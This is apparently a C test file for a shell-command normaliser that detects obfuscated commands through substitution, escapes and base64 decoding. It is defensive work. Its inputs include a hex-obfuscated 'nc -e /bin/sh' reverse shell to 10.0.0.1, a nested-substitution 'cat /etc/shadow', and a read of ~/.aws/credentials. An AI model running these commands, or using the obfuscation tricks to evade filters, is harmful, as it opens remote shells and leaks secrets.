/* Command and process substitution, and constant-producer evaluation. */
#include "norm_test.h"

Test(norm_subst, dollar_paren_inner_command)
{
    const px_actions *a = norm("echo $(whoami) done");
    const px_cmd *in = need_prog(a, "whoami");
    const px_cmd *out = need_prog(a, "echo");
    cr_assert(in->flags & PX_CMD_SUBST, "%s", dump(a));
    cr_assert_eq(in->depth, 1);
    cr_assert_eq(in->parent, cmd_index(a, out), "%s", dump(a));
    cr_assert_eq(out->depth, 0);
    cr_assert(!(out->flags & PX_CMD_SUBST));
    /* not constant: the word keeps the inner text */
    cr_assert_str_eq(out->argv[1], "$(whoami)");
    cr_assert_str_eq(out->line, "echo $(whoami) done");
}

Test(norm_subst, backticks)
{
    const px_actions *a = norm("echo `id -u`");
    const px_cmd *in = need_prog(a, "id");
    cr_assert(in->flags & PX_CMD_SUBST);
    cr_assert_eq(in->parent, cmd_index(a, find_prog(a, "echo")));
    cr_assert_str_eq(in->line, "id -u");
    cr_assert_str_eq(find_prog(a, "echo")->argv[1], "$(id -u)");
}

Test(norm_subst, backticks_with_escaped_dollar)
{
    const px_actions *a = norm("x=`echo \\$HOME`");
    const px_cmd *e = need_prog(a, "echo");
    cr_assert_str_eq(e->argv[1], "~", "%s", dump(a));
}

Test(norm_subst, nested_substitution_depths_and_parents)
{
    const px_actions *a = norm("ls $(dirname $(which nmap))");
    const px_cmd *w = need_prog(a, "which");
    const px_cmd *d = need_prog(a, "dirname");
    const px_cmd *l = need_prog(a, "ls");
    cr_assert_eq(w->depth, 2, "%s", dump(a));
    cr_assert_eq(d->depth, 1);
    cr_assert_eq(l->depth, 0);
    cr_assert_eq(w->parent, cmd_index(a, d));
    cr_assert_eq(d->parent, cmd_index(a, l));
    cr_assert_str_eq(l->argv[1], "$(dirname $(which nmap))");
}

Test(norm_subst, nested_constant_substitution_bypass)
{
    /* documented bypass: nested command substitution */
    const px_actions *a = norm("$(echo $(echo cat)) /etc/shadow");
    const px_cmd *c = need_prog(a, "cat");
    cr_assert_eq(c->depth, 0);
    cr_assert_str_eq(c->argv[1], "/etc/shadow");
    cr_assert_str_eq(c->line, "cat /etc/shadow");
    cr_assert(c->flags & PX_CMD_OBFUSCATED);
    cr_assert_eq(count_prog(a, "echo"), 2, "%s", dump(a));
}

Test(norm_subst, printf_hex_bypass)
{
    /* documented bypass: printf hex escapes */
    const px_actions *a = norm("$(printf '\\x6e\\x63') -e /bin/sh 10.0.0.1 4444");
    const px_cmd *c = need_prog(a, "nc");
    cr_assert_str_eq(c->line, "nc -e /bin/sh 10.0.0.1 4444");
    cr_assert(c->flags & PX_CMD_OBFUSCATED);
    cr_assert(a->flags & PX_ACT_ANSI_C, "%s", dump(a));
    cr_assert(a->flags & PX_ACT_DECODED);
    cr_assert_not_null(find_text(a, PX_TEXT_DECODED, "nc"));
}

Test(norm_subst, base64_in_substitution)
{
    const px_actions *a = norm("$(echo bmM= | base64 -d) -l 4444");
    const px_cmd *c = need_prog(a, "nc");
    cr_assert_str_eq(c->line, "nc -l 4444");
    cr_assert(a->flags & PX_ACT_DECODED);
    cr_assert(find_prog(a, "base64")->flags & PX_CMD_SUBST);
}

Test(norm_subst, printf_format_and_args)
{
    const px_actions *a = norm("$(printf '%s%s' n map) -sV x; $(printf \"\\156\\155\\141\\160\") y");
    cr_assert_eq(count_prog(a, "nmap"), 2, "%s", dump(a));
}

Test(norm_subst, echo_e_escapes)
{
    const px_actions *a = norm("$(echo -e '\\x6e\\x63') -l 1");
    need_prog(a, "nc");
    cr_assert(a->flags & PX_ACT_ANSI_C);
}

Test(norm_subst, echo_without_e_keeps_backslashes)
{
    const px_actions *a = norm("$(echo '\\x6e\\x63') -l 1");
    assert_no_prog(a, "nc");
}

Test(norm_subst, trailing_newlines_stripped_and_field_split)
{
    const px_actions *a = norm("$(printf 'ls\\n-la\\n\\n') /");
    const px_cmd *c = need_prog(a, "ls");
    cr_assert_eq(c->argc, 3, "%s", dump(a));
    cr_assert_str_eq(c->line, "ls -la /");
}

Test(norm_subst, quoted_constant_is_one_word)
{
    const px_actions *a = norm("echo \"$(echo a b)\"");
    cr_assert_eq(a->ncmds, 2);
    const px_cmd *c = &a->cmds[1]; /* the outer echo comes after the inner one */
    cr_assert_eq(c->argc, 2, "%s", dump(a));
    cr_assert_str_eq(c->argv[1], "a b");
}

Test(norm_subst, non_constant_keeps_normalised_inner_text)
{
    const px_actions *a = norm("x=$(cat /etc/passwd | 'grep' root); echo \"$x\"");
    need_prog(a, "grep");
    cr_assert_str_eq(need_prog(a, "echo")->argv[1], "$x");
    a = norm("echo $(cat /etc/passwd | 'grep' root)");
    cr_assert_str_eq(need_prog(a, "echo")->argv[1], "$(cat /etc/passwd | grep root)");
}

Test(norm_subst, arithmetic_is_not_substitution)
{
    const px_actions *a = norm("echo $((1+2)) $(( (3*4) ))");
    cr_assert_eq(a->ncmds, 1, "%s", dump(a));
    const px_cmd *c = need_prog(a, "echo");
    cr_assert_str_eq(c->argv[1], "$((1+2))");
    cr_assert(!(a->flags & PX_ACT_PARSE_ERR));
}

Test(norm_subst, subshell_in_substitution_is_not_arithmetic)
{
    const px_actions *a = norm("echo $((id); whoami)");
    need_prog(a, "id");
    need_prog(a, "whoami");
}

Test(norm_subst, single_quoted_substitution_not_expanded)
{
    const px_actions *a = norm("echo '$(id)' '`whoami`'");
    cr_assert_eq(a->ncmds, 1, "%s", dump(a));
    assert_no_prog(a, "id");
    assert_no_prog(a, "whoami");
}

Test(norm_subst, process_substitution)
{
    const px_actions *a = norm("diff <(ls /a) >(tee /tmp/x)");
    const px_cmd *l = need_prog(a, "ls");
    const px_cmd *t = need_prog(a, "tee");
    const px_cmd *d = need_prog(a, "diff");
    cr_assert(l->flags & PX_CMD_SUBST);
    cr_assert(t->flags & PX_CMD_SUBST);
    cr_assert_eq(l->parent, cmd_index(a, d));
    cr_assert_str_eq(d->argv[1], "<(ls /a)");
    cr_assert_str_eq(d->argv[2], ">(tee /tmp/x)");
}

Test(norm_subst, substitution_in_assignment_has_no_parent)
{
    const px_actions *a = norm("v=$(curl -s http://x)");
    const px_cmd *c = need_prog(a, "curl");
    cr_assert(c->flags & PX_CMD_SUBST);
    cr_assert_eq(c->parent, -1);
}

Test(norm_subst, substitution_in_redirect_target)
{
    const px_actions *a = norm("echo x > $(mktemp)");
    const px_cmd *m = need_prog(a, "mktemp");
    cr_assert_eq(m->parent, cmd_index(a, find_prog(a, "echo")));
}

Test(norm_subst, case_inside_substitution)
{
    const px_actions *a = norm("echo $(case a in a) id;; esac) && whoami");
    need_prog(a, "id");
    need_prog(a, "whoami");
    cr_assert(!(a->flags & PX_ACT_PARSE_ERR), "%s", dump(a));
}

Test(norm_subst, heredoc_inside_substitution)
{
    const px_actions *a = norm("x=$(cat <<EOF\nit's (here)\nEOF\n); id");
    need_prog(a, "cat");
    need_prog(a, "id");
}

Test(norm_subst, assignment_in_substitution_does_not_leak)
{
    const px_actions *a = norm("echo $(p=nm; echo $p) ; ${p}ap x");
    assert_no_prog(a, "nmap");
}

Test(norm_subst, dollar_less_than_reads_file)
{
    const px_actions *a = norm("echo \"$(</home/dev/.aws/credentials)\"");
    const px_cmd *c = need_prog(a, "cat");
    cr_assert(c->flags & PX_CMD_SUBST);
    cr_assert_str_eq(c->line, "cat </home/dev/.aws/credentials");
    cr_assert_eq(c->parent, cmd_index(a, find_prog(a, "echo")));
    /* only inside a substitution: a bare `< file` runs nothing */
    a = norm("< /etc/shadow");
    cr_assert_eq(a->ncmds, 0, "%s", dump(a));
}

Test(norm_subst, printf_and_echo_semantics)
{
    const px_actions *a = norm("x=$(printf '%5s|%-3s|%03d|%x|%c|%%|%b' ab c 7 255 xyz '\\x41'); echo \"$x\"");
    cr_assert_str_eq(a->cmds[a->ncmds - 1].argv[1], "   ab|c  |007|ff|x|%|A", "%s", dump(a));
    a = norm("x=$(printf '%s-' a b c); echo \"$x\"");
    cr_assert_str_eq(a->cmds[a->ncmds - 1].argv[1], "a-b-c-", "format reuse: %s", dump(a));
    a = norm("x=$(printf '%d,%.2s' \"'A\" abcdef); echo \"$x\"");
    cr_assert_str_eq(a->cmds[a->ncmds - 1].argv[1], "65,ab", "%s", dump(a));
    a = norm("x=$(echo -e 'a\\0101b\\c ignored'); echo \"$x\"");
    cr_assert_str_eq(a->cmds[a->ncmds - 1].argv[1], "aAb", "\\c stops output: %s", dump(a));
    a = norm("x=$(echo -n -E 'a\\x41'); echo \"$x\"");
    cr_assert_str_eq(a->cmds[a->ncmds - 1].argv[1], "a\\x41", "%s", dump(a));
    a = norm("x=$'a\\U0001F600\\cAz\\0gone'; echo \"$x\"");
    cr_assert_str_eq(a->cmds[a->ncmds - 1].argv[1], "a\xf0\x9f\x98\x80\x01z", "%s", dump(a));
}
